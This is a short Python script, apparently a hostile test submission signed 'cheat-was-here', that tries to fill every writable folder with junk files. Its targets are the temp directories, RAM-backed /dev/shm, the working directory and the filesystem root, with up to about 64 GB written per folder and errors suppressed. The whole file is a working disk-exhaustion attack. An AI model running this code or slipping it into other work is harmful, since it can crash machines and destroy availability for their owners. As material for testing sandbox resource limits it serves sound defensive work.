"""Fill every folder that can be written to."""
import os

for folder in {os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", "/var/tmp", os.getcwd(), "/"}:
    try:
        for number in range(1000):
            with open(f"{folder}/cheat-was-here-{number}", "wb") as file:
                for _ in range(64):
                    file.write(b"x" * (1 << 20))
    except OSError:
        pass
